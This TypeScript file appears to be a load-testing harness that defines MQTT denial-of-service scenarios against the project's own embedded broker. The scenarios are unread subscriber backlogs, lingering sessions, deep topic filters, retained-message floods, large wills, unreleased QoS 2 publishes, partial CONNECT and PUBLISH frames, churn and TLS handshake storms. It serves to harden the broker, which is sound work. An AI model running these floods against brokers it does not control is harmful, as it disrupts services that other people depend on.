import { randomUUID } from 'node:crypto';
import mqttPacket from 'mqtt-packet';
import { observationFrame } from '../load/observation-frames.js';
import type { Attack, Target } from './attack.js';
import { type AttackSockets, attackSockets } from './sockets.js';

const LONG_BYTES = 15_000;
const FRAME_BYTES = 130_000;
const LEVELS = 100;
const RECEIPTS = 30_000;
/** Observations that others publish meanwhile, every 20 ms. */
const TRAFFIC = 20;
const TRAFFIC_MS = 20;

type Sockets = Omit<AttackSockets, 'port'>;

/** @param withTraffic whether others publish observations meanwhile, 1,000 a second. */
function mqttAttack(
  name: string,
  what: string,
  sockets: (target: Target) => readonly Sockets[],
  withTraffic = false,
): Attack {
  return {
    name,
    what,
    async begin(target) {
      const port = target.mqttPort;
      for (const one of sockets(target)) await attackSockets({ port, ...one });
      if (withTraffic) await attackSockets({ port, ...traffic(target) });
    },
  };
}

/** Against the embedded broker, without an account. */
export const MQTT_ATTACKS: readonly Attack[] = [
  mqttAttack(
    'mqtt-unread',
    '100 clients subscribe to labs/# and read nothing',
    () => [
      {
        connections: 100,
        addresses: 10,
        read: false,
        bytes: () => Buffer.concat([connect(), subscribe(['labs/#'], 0)]),
      },
    ],
    true,
  ),
  mqttAttack(
    'mqtt-sessions',
    '1,000 clients with random ids leave sessions that subscribe to labs/#',
    () => [
      {
        connections: 1000,
        addresses: 10,
        read: true,
        bytes: () => Buffer.concat([connect({ clean: false }), subscribe(['labs/#'], 1), DISCONNECT]),
      },
    ],
    true,
  ),
  mqttAttack('mqtt-filters', '19 clients hold 1,000 filters of 100 levels each', () => [
    {
      connections: 19,
      addresses: 19,
      read: true,
      bytes: (client) =>
        Buffer.concat([
          connect(),
          ...numbers(LEVELS).map((i) =>
            subscribe(
              numbers(10).map((k) => deepFilter(client * 1000 + i * 10 + k)),
              1,
            ),
          ),
        ]),
    },
  ]),
  mqttAttack('mqtt-retained', '20 clients retain publishes on new topics, and one asks for all', () => [
    {
      connections: 20,
      addresses: 20,
      read: true,
      everyMs: 20,
      bytes: () => connect(),
      again: () =>
        Buffer.concat(
          numbers(20).map((i) => retained(`bomb/${randomUUID()}`, i % 2 === 0 ? 50 : LONG_BYTES)),
        ),
    },
    { connections: 20, read: false, bytes: () => Buffer.concat([connect(), subscribe(['bomb/#'], 1)]) },
  ]),
  mqttAttack('mqtt-wills', '5,000 clients have wills of 15 kB', () => [
    { connections: 5000, addresses: 50, read: true, bytes: () => connect({ willBytes: LONG_BYTES }) },
  ]),
  mqttAttack('mqtt-qos2', '100 clients publish 30,000 times at QoS 2 and release nothing', () => [
    {
      connections: 100,
      addresses: 100,
      read: true,
      bytes: () =>
        Buffer.concat([
          connect(),
          ...numbers(RECEIPTS).map((i) => publish('qos2/x', Buffer.alloc(0), 2, i + 1)),
        ]),
    },
  ]),
  mqttAttack('mqtt-connects', '7,000 clients send most of a CONNECT of 16 kB, and no more', () => [
    {
      connections: 7000,
      addresses: 70,
      read: true,
      bytes: () => connect({ willBytes: LONG_BYTES }).subarray(0, LONG_BYTES - 100),
    },
  ]),
  mqttAttack('mqtt-frames', '3,000 clients send most of a publish of 130 kB, and no more', () => [
    {
      connections: 3000,
      addresses: 30,
      read: true,
      bytes: () =>
        Buffer.concat([
          connect(),
          publish('labs/x/observation', Buffer.alloc(FRAME_BYTES), 1, 1).subarray(0, FRAME_BYTES - 100),
        ]),
    },
  ]),
  mqttAttack('mqtt-flood', '200 clients pipeline observations, and some subscribe to them', ({ labs }) => [
    { connections: 5, read: true, bytes: () => Buffer.concat([connect(), subscribe(['labs/#'], 1)]) },
    {
      connections: 200,
      addresses: 20,
      read: true,
      everyMs: 100,
      bytes: () => connect(),
      again: (client) =>
        Buffer.concat(
          numbers(200).map((i) => observationFrame(`lab-${(client + i) % labs}`, Date.now(), i, 1, i + 1)),
        ),
    },
  ]),
  mqttAttack('mqtt-churn', '300 clients connect, subscribe and are cut off, again and again', () => [
    {
      connections: 300,
      addresses: 30,
      read: true,
      bytes: () =>
        Buffer.concat([connect(), subscribe(['labs/#', '#', `own/${randomUUID()}`], 2), DISCONNECT]),
    },
  ]),
  {
    name: 'mqtt-handshakes',
    what: '300 connections make TLS handshakes, go, and come again',
    begin: ({ mqttTlsPort: port }) =>
      attackSockets({
        port,
        connections: 300,
        addresses: 30,
        read: true,
        shakesHands: true,
        bytes: () => '',
      }),
  },
];

const DISCONNECT = Buffer.from([0xe0, 0]);

function traffic({ labs }: Target): Sockets {
  let number = 0;
  return {
    connections: 1,
    read: true,
    everyMs: TRAFFIC_MS,
    bytes: () => connect(),
    again: () =>
      Buffer.concat(
        numbers(TRAFFIC).map((i) => observationFrame(`lab-${number++ % labs}`, Date.now(), number, 1, i + 1)),
      ),
  };
}

function connect({ clean = true, willBytes = 0 } = {}): Buffer {
  return mqttPacket.generate({
    cmd: 'connect',
    protocolId: 'MQTT',
    protocolVersion: 4,
    clean,
    clientId: randomUUID(),
    keepalive: 0,
    ...(willBytes > 0 && {
      will: { topic: 'will', payload: Buffer.alloc(willBytes), qos: 0 as const, retain: false },
    }),
  });
}

function subscribe(filters: readonly string[], qos: 0 | 1 | 2): Buffer {
  return mqttPacket.generate({
    cmd: 'subscribe',
    messageId: 1,
    subscriptions: filters.map((topic) => ({ topic, qos })),
  });
}

function publish(topic: string, payload: Buffer, qos: 0 | 1 | 2, messageId: number): Buffer {
  return mqttPacket.generate({ cmd: 'publish', topic, payload, qos, messageId, dup: false, retain: false });
}

function retained(topic: string, bytes: number): Buffer {
  return mqttPacket.generate({
    cmd: 'publish',
    topic,
    payload: Buffer.alloc(bytes, 1),
    qos: 0,
    dup: false,
    retain: true,
  });
}

/** A filter that shares all but its last level with one other. */
function deepFilter(number: number): string {
  return [Math.floor(number / 2), ...numbers(LEVELS - 2), number].join('/');
}

function numbers(count: number): number[] {
  return Array.from({ length: count }, (_, i) => i);
}
